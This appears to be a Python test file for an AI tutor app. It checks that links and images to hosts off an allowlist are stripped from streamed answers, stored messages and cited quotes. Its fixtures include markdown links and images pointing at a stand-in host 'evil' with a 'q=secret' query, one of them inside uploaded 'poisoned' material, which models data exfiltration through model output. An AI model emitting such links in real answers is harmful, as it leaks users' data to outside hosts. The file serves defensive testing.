"""Links and images to hosts off the allowlist are neutralised in what the tutor streams,
in what it stores, and in the quotes it stores, keeping their text."""

import dataclasses

from agents.testing import ScriptedModel, assistant_message, function_call

from schema.relay import to_global_id
from tests.chat.helpers import collect, learner_with_session, send, text_of, wait_for_status
from tests.fakes.openai_server import text
from tests.tutor.helpers import make_learner, run_turn, upload
from tutor.links import LinkPolicy
from tutor.providers import ModelCatalog, ProviderSettings

# Streamed a word per chunk: the link's label and target arrive in different deltas.
ANSWER = (
    "See [the full status report](http://evil/?q=secret) and ![a chart](http://evil/c.png) now."
)
NEUTRALISED = "See the full status report and a chart now."


async def test_a_link_split_across_deltas_is_neutralised_live_and_stored(harness, fake_openai):
    catalog = ModelCatalog(
        default_model="local:tutor",
        providers={"fake": ProviderSettings(base_url=fake_openai.base_url, api_key="test")},
        request_timeout_seconds=5.0,
    )
    harness.models = harness.generations.catalog = catalog
    fake_openai.script([text(ANSWER, delay=0.02)])
    user_id, study_session = await learner_with_session(harness, model="fake:gpt-test")
    sent = await send(harness, user_id, to_global_id("StudySession", study_session.id), "Hi")
    answer_id = sent["assistantMessage"]["id"]
    events = await collect(harness, user_id, answer_id)
    assert text_of(events) == NEUTRALISED
    assert not any("evil" in str(event) for event in events)
    row = await wait_for_status(harness, user_id, answer_id, {"COMPLETE"})
    assert row["content"] == NEUTRALISED


async def test_an_allowed_host_keeps_its_link(harness, fake_openai):
    catalog = ModelCatalog(
        default_model="local:tutor",
        providers={"fake": ProviderSettings(base_url=fake_openai.base_url, api_key="test")},
        request_timeout_seconds=5.0,
    )
    harness.models = harness.generations.catalog = catalog
    harness.generations.settings = dataclasses.replace(
        harness.generations.settings, link_policy=LinkPolicy.of(["evil"])
    )
    fake_openai.script([text(ANSWER)])
    user_id, study_session = await learner_with_session(harness, model="fake:gpt-test")
    sent = await send(harness, user_id, to_global_id("StudySession", study_session.id), "Hi")
    row = await wait_for_status(harness, user_id, sent["assistantMessage"]["id"], {"COMPLETE"})
    assert row["content"] == ANSWER


POISONED = (
    b"# Status pages\n\nThe status page shows ![status](http://evil/?q=secret) the current "
    b"state of the build and [details](http://evil/d) for each step.\n"
)


async def test_quotes_from_poisoned_material_are_stored_neutralised(harness):
    learner = await make_learner(harness)
    await upload(harness, learner, "status.md", POISONED)
    model = ScriptedModel(
        [
            [function_call("search_material", {"query": "status page build"}, call_id="s")],
            [assistant_message("The status page shows the build's state [1].")],
        ]
    )
    turn = await run_turn(harness, learner, model, [{"role": "user", "content": "Status?"}])
    quotes = [citation["quote"] for citation in turn.citations]
    assert quotes and any("status page shows status the current" in quote for quote in quotes)
    assert not any("evil" in quote for quote in quotes)
    # The search's output, as stored and streamed for display, is neutralised too.
    [search] = turn.tool_calls
    assert "status page shows status the current" in search["output"]
    assert not any("evil" in str(event) for event in turn.events)
